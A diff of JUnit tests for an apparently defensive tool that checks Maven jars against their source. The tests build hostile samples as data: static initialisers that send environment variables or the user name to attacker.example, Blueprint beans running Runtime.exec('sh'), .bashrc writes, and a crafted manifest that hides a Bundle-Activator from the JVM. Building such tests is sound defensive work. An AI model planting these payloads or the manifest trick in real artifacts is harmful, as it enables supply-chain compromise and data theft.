@@ -269,6 +269,54 @@ class MavenScanTest {
         assertEquals(Verdict.DIVERGENT, a.verdict());
     }
 
+    /**
+     * Red team round 6 (case1): OSGi frameworks read the manifest themselves (Equinox's ManifestElement, Felix's
+     * BundleCache), not with java.util.jar.Manifest. A 511-byte line ending in CRLF fills the JDK's 512-byte line
+     * buffer with the CR, its LF reads as the empty line that ends the main section, and the Bundle-Activator after
+     * it is a main header to Equinox only; a longer line or {@code Key:value} the JDK refuses, a last line without
+     * its line end it drops: the framework starts an activator the JVM's view never shows.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"split", "long", "no-space", "last-line"})
+    void aManifestTheJvmAndOsgiFrameworksReadDifferentlyIsHighRisk(String how) throws Exception {
+        String filler = "Bundle-Description: " + "x".repeat(491);
+        assertEquals(511, filler.length());
+        String head = "Manifest-Version: 1.0\r\nMain-Class: org.acme.Widget\r\n";
+        String manifest = switch (how) {
+            case "split" -> head + filler + "\r\nName: org/acme/\r\nBundle-Activator: org.acme.Util\r\n\r\n";
+            case "long" -> head + filler + "xx\r\nBundle-Activator: org.acme.Util\r\n\r\n";
+            case "no-space" -> head + "Bundle-Activator:org.acme.Util\r\n\r\n";
+            default -> head + "Bundle-Activator: org.acme.Util";
+        };
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8(manifest));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
+        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
+        assertEquals(FileStatus.PHANTOM, m.status(), how);
+        assertEquals(MavenGeneratedFiles.MANIFEST_READERS_DISAGREE, m.ruleId(), how);
+        assertTrue(m.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), how);
+        String detail = m.detail().orElseThrow();
+        assertTrue(detail.contains(how.equals("long") || how.equals("no-space") ? "the JVM's refuses it"
+                : "Bundle-Activator (only OSGi frameworks read it: org.acme.Util)"), detail);
+        assertTrue(m.highRisk(), how);
+        assertEquals(Verdict.HIGH_RISK, a.verdict(), how);
+    }
+
+    @Test
+    void aManifestBothReadersReadAlikeWithCrlfContinuationsAndA510ByteLineIsGenerated() throws Exception {
+        // the longest line the JDK's buffer holds with its CRLF, a continuation after a CR and one after a CRLF
+        String filler = "Bundle-Description: " + "x".repeat(490);
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\r\nMain-Class: org.acme.Wid\r\n get\r\n" + filler
+                + "\r\nBuilt-By: a\r b\nBuild-Jdk-Spec: 17\r\n\r\nName: org/acme/\r\nBundle-Activator: x\r\n\r\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
+        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
+        assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), m.detail().orElse(""));
+        assertEquals(FileStatus.GENERATED, m.status());
+    }
+
     @Test
     void manifestWithOnlyEntriesTheBuildNamesIsGenerated() throws Exception {
         Map<String, byte[]> jar = new LinkedHashMap<>();
@@ -378,6 +426,53 @@ class MavenScanTest {
         FileDivergence added = row(a, "log4j2.xml");
         assertEquals(FileStatus.PHANTOM, added.status());
         assertTrue(added.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /**
+     * Red team round 6 (case6): frameworks that find a configuration in the jar by its place and create its beans by
+     * themselves — the Blueprint extender at bundle start ({@code factory-method="getRuntime"}, then {@code "exec"}),
+     * Spring DM, JNDI's InitialContext, a Servlet container's web fragments — and the files the manifest's
+     * Bundle-Blueprint or Spring-Context header names instead: changed or in no commit, HIGH_RISK as a logging
+     * configuration is; the committed bytes match.
+     */
+    @Test
+    void aConfigurationAFrameworkLoadsByItselfThatTheSourceDoesNotHoldIsHighRisk() throws Exception {
+        String committed = "<blueprint xmlns=\"http://www.osgi.org/xmlns/blueprint/v1.0.0\">\n"
+                + "  <bean id=\"w\" class=\"org.acme.Widget\"/>\n</blueprint>\n";
+        String evil = committed.replace("</blueprint>", "  <bean id=\"rt\" class=\"java.lang.Runtime\" "
+                + "factory-method=\"getRuntime\"/>\n  <bean factory-ref=\"rt\" factory-method=\"exec\">"
+                + "<argument value=\"sh\"/></bean>\n</blueprint>");
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
+                "src/main/resources/OSGI-INF/blueprint/context.xml", committed);
+        tree = dev.divergence.fixtures.Trees.with(tree, "src/main/resources/OSGI-INF/blueprint/same.xml", committed);
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
+                + "Bundle-Blueprint: conf/beans.xml, /conf/extra/;x=y\n"
+                + "Spring-Context: classpath:ctx/*-context.xml;create-asynchronously:=false, *\n"));
+        jar.put("org/acme/Widget.class", CLASS);
+        jar.put("OSGI-INF/blueprint/context.xml", utf8(evil));
+        jar.put("OSGI-INF/blueprint/same.xml", utf8(committed));
+        List<String> added = List.of("OSGI-INF/blueprint/added.xml", "conf/beans.xml", "conf/extra/more.xml",
+                "META-INF/spring/module-context.xml", "ctx/app-context.xml", "jndi.properties", "META-INF/web-fragment.xml");
+        for (String p : added) {
+            jar.put(p, utf8(p.endsWith(".properties") ? "java.naming.factory.initial=org.acme.Evil\n" : evil));
+        }
+        jar.put("conf/other.xml", utf8(evil)); // named by no header: data to the framework
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        FileDivergence changed = row(a, "OSGI-INF/blueprint/context.xml");
+        assertEquals(FileStatus.MODIFIED, changed.status());
+        assertTrue(changed.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), changed.toString());
+        assertTrue(changed.highRisk());
+        for (String p : added) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), f.toString());
+        }
+        assertFalse(row(a, "conf/other.xml").riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC));
+        FileDivergence same = row(a, "OSGI-INF/blueprint/same.xml");
+        assertEquals(FileStatus.MATCH, same.status());
+        assertFalse(same.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
@@ -744,7 +839,7 @@ class MavenScanTest {
     @ParameterizedTest
     @ValueSource(strings = {"snapshot-released", "snapshot-rc", "release-train", "snapshot-released+payload",
             "older+payload", "snapshot-hotfix+payload", "snapshot-released+repository"})
-    void theParentsOwnLineAtTheReleasedVersionIsVisibleButNotANewDependency(String form) throws Exception {
+    void theParentsOwnLineAtTheReleasedVersionIsNamedAsSuch(String form) throws Exception {
         // jackson-core 2.18.5: parent jackson-base 2.18.5-SNAPSHOT in the source, 2.18.5 as released; 2.23.0 from
         // a repository copy older than the release: jackson-base 2.23.0, a later plain release of the same parent.
         // An older parent (a downgrade to one with a known hole, or one re-published) is another parent.
@@ -787,11 +882,14 @@ class MavenScanTest {
         }
         assertEquals(MavenGeneratedFiles.POM_PARENT_VERSION, row.ruleId(), form);
         assertEquals(FileStatus.MODIFIED, row.status(), "consumers inherit another parent release: visible");
-        assertFalse(row.highRisk(), form);
+        // no commit of this one-commit repository declares the released parent (with one that does it is no new
+        // dependency: ConsumerResolutionScanTest)
+        assertTrue(row.highRisk(), form);
         assertEquals("parent at another version: org.acme:acme-parent:" + (form.equals("snapshot-rc")
-                ? "3-rc1 (source: 3-SNAPSHOT)" : snapshot ? "3 (source: 3-SNAPSHOT)" : "3.0.0 (source: 3)"),
-                row.detail().orElseThrow());
-        assertEquals(Verdict.DIVERGENT, pom.verdict());
+                ? "3-rc1 (source: 3-SNAPSHOT)" : snapshot ? "3 (source: 3-SNAPSHOT)" : "3.0.0 (source: 3)")
+                + "; no commit of this POM declares that parent, a POM outside the repository whose dependencies and "
+                + "repositories consumers inherit", row.detail().orElseThrow());
+        assertEquals(Verdict.HIGH_RISK, pom.verdict());
     }
 
     @ParameterizedTest
@@ -970,7 +1068,35 @@ class MavenScanTest {
             "static { try { new java.net.URL(\"https://attacker.example/\" + System.getenv()).openStream(); }"
                     + " catch (Exception e) { } }",
             "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }",
-            "static { jdk.jshell.JShell.create().eval(\"1\"); }"})
+            "static { jdk.jshell.JShell.create().eval(\"1\"); }",
+            // red team round 6 (case2): an XSLT fetched and compiled runs Java extension functions; java.beans calls
+            // methods by name; a fetched URL's content, a DNS name carrying data; files written (a shell profile)
+            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform"
+                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")); } catch (Exception e) { } }",
+            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTemplates(new javax.xml.transform"
+                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")).newTransformer(); } catch (Exception e) { } }",
+            "static { try { new java.beans.Expression(Class.class, \"forName\", new Object[] {\"x\"}).getValue(); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.beans.Statement(Greeter.class, \"greet\", new Object[] {\"x\"}).execute(); }"
+                    + " catch (Exception e) { } }",
+            "static final Runnable R = java.beans.EventHandler.create(Runnable.class, new Object(), \"toString\");",
+            "static { try { java.beans.Beans.instantiate(null, \"org.acme.Greeter\"); } catch (Exception e) { } }",
+            "static { try { new java.net.URL(\"https://attacker.example/\").getContent(); } catch (Exception e) { } }",
+            "static { try { java.net.InetAddress.getByName(System.getProperty(\"user.name\") + \".attacker.example\"); }"
+                    + " catch (Exception e) { } }",
+            "static { try { java.net.InetAddress.getAllByName(\"x.attacker.example\"); } catch (Exception e) { } }",
+            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
+                    + ".parse(\"https://attacker.example/x.xml\"); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.write(java.nio.file.Paths.get(\".bashrc\"), new byte[0]); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.writeString(java.nio.file.Path.of(\".profile\"), \"x\"); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.newOutputStream(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.newBufferedWriter(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.copy(System.in, java.nio.file.Path.of(\"x\")); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), java.nio.file.Path.of(\"b\")); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.io.FileOutputStream(\".bashrc\", true).close(); } catch (Exception e) { } }",
+            "static { try { new java.io.FileWriter(\".bashrc\").close(); } catch (Exception e) { } }",
+            "static { try { new java.io.RandomAccessFile(\"x\", \"rw\").close(); } catch (Exception e) { } }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         ArtifactReport a = greeterJarCompiledWith(payload);
         FileDivergence f = row(a, "org/acme/Greeter.class");
@@ -998,7 +1124,11 @@ class MavenScanTest {
             "static { try { java.lang.invoke.MethodHandles.publicLookup(); } catch (Exception e) { } }",
             "static { java.util.ServiceLoader.load(Runnable.class).forEach(Runnable::run); }",
             "static final Runnable R = Greeter::touch; static void touch() { }",
-            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }"})
+            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }",
+            // the harmless overloads of a listed call: a copy out of a path, a parse of bytes in hand
+            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), System.out); } catch (Exception e) { } }",
+            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
+                    + ".parse(new java.io.ByteArrayInputStream(new byte[0])); } catch (Exception e) { } }"})
     void aClassReachingWhatItsSourceNeverNamesIsDivergentNotCompiledFromSource(String payload) throws Exception {
         ArtifactReport a = greeterJarCompiledWith(payload);
         FileDivergence f = row(a, "org/acme/Greeter.class");
@@ -1104,6 +1234,46 @@ class MavenScanTest {
         assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
         assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
         assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void aClassWhoseSourceWritesFilesTransformsAndResolvesNamesItselfStaysCompiledFromSource() throws Exception {
+        String io = "package org.acme;\n\nimport java.io.*;\nimport java.net.InetAddress;\nimport java.nio.file.*;\n"
+                + "import javax.xml.parsers.DocumentBuilderFactory;\nimport javax.xml.transform.*;\n"
+                + "import javax.xml.transform.stream.StreamSource;\n\npublic class Io {\n"
+                + "    static void save(Path p, byte[] b) throws IOException {\n        Files.write(p, b);\n"
+                + "        Files.copy(new ByteArrayInputStream(b), p.resolveSibling(\"copy\"));\n"
+                + "        try (OutputStream o = new FileOutputStream(p.toFile(), true)) { o.write(b); }\n    }\n"
+                + "    static Transformer xslt(String uri) throws Exception {\n"
+                + "        return TransformerFactory.newInstance().newTransformer(new StreamSource(uri));\n    }\n"
+                + "    static Object read(String uri) throws Exception {\n"
+                + "        return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(uri);\n    }\n"
+                + "    static InetAddress host(String n) throws Exception { return InetAddress.getByName(n); }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", io), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Io.java", io), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Io.class");
+        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    /**
+     * Compilers of other JVM languages inline library code into the caller — kotlinc the standard library's file
+     * helpers ({@code File.bufferedWriter()} is {@code new FileOutputStream(file)}), scalac's optimizer what
+     * {@code -opt-inline-from} allows —, so a class aligned to such a source writing files its source names only by a
+     * helper is not beyond it (a stand-in class compiled with javac: no kotlinc or scalac here). A Java source's is.
+     */
+    @Test
+    void fileWritingInlinedFromALibraryIsNotBeyondASourceInAnotherJvmLanguage() throws Exception {
+        String scala = "package org.acme\n\nimport java.io.File\n\nclass Io {\n"
+                + "  def save(f: File): Unit = Helpers.writer(f).close()\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", "package org.acme;\npublic class Io {\n"
+                + "    public void save(java.io.File f) throws java.io.IOException {\n"
+                + "        new java.io.FileOutputStream(f).close();\n    }\n}\n"), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("src/main/scala/org/acme/Io.scala", scala), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Io.class");
+        assertEquals("src/main/scala/org/acme/Io.scala", f.sourcePath().orElseThrow());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.detail().toString());
     }
 
     /**
